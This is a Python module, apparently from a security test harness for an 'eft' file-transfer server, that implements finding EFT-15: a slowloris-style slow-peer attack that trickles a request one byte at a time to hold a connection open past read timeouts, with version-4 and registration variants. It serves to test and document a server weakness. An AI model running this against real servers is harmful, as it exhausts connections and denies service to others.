"""A slow peer: keep a connection by sending one byte at a time.

Read timeouts that restart with every byte bound nothing: one byte every ``--interval``
seconds keeps a frame, and so the connection, open for as long as we like, at no cost
to us. A server can bound the whole handshake (ours does: ``--handshake-timeout``), so
by default we first register (free, no proof needed) and trickle a request after the
handshake. ``--no-register`` trickles the first request instead. Success if the
connection is still open after ``--hold`` seconds.

``--protocol 4``: we register an identity of ours (a full handshake) and trickle a
sealed record; with ``--no-register``, the handshake's message 1. Version 4 gives a
whole header the idle (or, mid-upload, read) timeout and a whole payload the read
timeout, and the handshake a deadline from the accept.
"""

from __future__ import annotations

import argparse
import asyncio
import os

from eft_protocol.codes import RequestCode
from eft_protocol.v4.handshake import hello_header
from eft_protocol.v4.records import FileMeta

from .common import AttackError, ConnectionClosed, Out, ServerLink, own_session
from .framing import name_request
from .v4 import add_protocol_argument, meta_plaintext, own_identity

FINDING = "EFT-15"
SUMMARY = "slow peer: one byte at a time holds a connection past every timeout"


def add_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--target", required=True, help="the eft server, HOST:PORT")
    parser.add_argument("--hold", type=float, default=10.0, help="seconds to hold (10)")
    parser.add_argument("--interval", type=float, default=1.0, help="seconds between bytes")
    parser.add_argument("--no-register", dest="register", action="store_false")
    add_protocol_argument(parser)


async def run(args: argparse.Namespace, out: Out) -> bool:
    name = f"slow-{os.urandom(3).hex()}"
    if args.protocol == 4 and args.register:
        client = await own_identity(args.target, name)
        link = client.link
        meta = FileMeta(1, 1, os.urandom(16), "slow.txt")  # answered 1604 when it arrives
        frame = client.seal(RequestCode.SEND_FILE, meta_plaintext(meta))
        out.step(f"registered as {name!r} in version 4; the handshake is over")
    elif args.protocol == 4:
        link = await ServerLink.open(args.target)
        frame = hello_header() + os.urandom(32)  # answered 1602 when it arrives
    elif args.register:
        session = await own_session(args.target, name)
        link, client_id = session.link, session.client_id
        frame = name_request(client_id, RequestCode.CRC_RETRY, "slow.txt")  # answered 1607
        out.step(f"registered as {name!r}; the handshake is over")
    else:
        link = await ServerLink.open(args.target)
        frame = name_request(bytes(16), RequestCode.REGISTER, name)
    loop = asyncio.get_running_loop()
    start = loop.time()
    sent = 0
    while loop.time() - start < args.hold and sent < len(frame) - 1:
        link.writer.write(frame[sent : sent + 1])
        sent += 1
        await asyncio.sleep(args.interval)
        if link.reader.at_eof():
            break
    held = round(loop.time() - start, 2)
    try:
        link.writer.write(frame[sent:])
        answer = (await link.receive(3.0)).code
    except (ConnectionClosed, ConnectionError, OSError):
        answer = None
    except AttackError:
        answer = None
    finally:
        await link.close()
    if answer is None:
        return out.result(False, f"the server closed the connection after {held} s", held=held)
    return out.result(
        True,
        f"held one connection {held} s with {sent} bytes; the server still answered ({answer})",
        held=held,
        bytes=sent,
    )
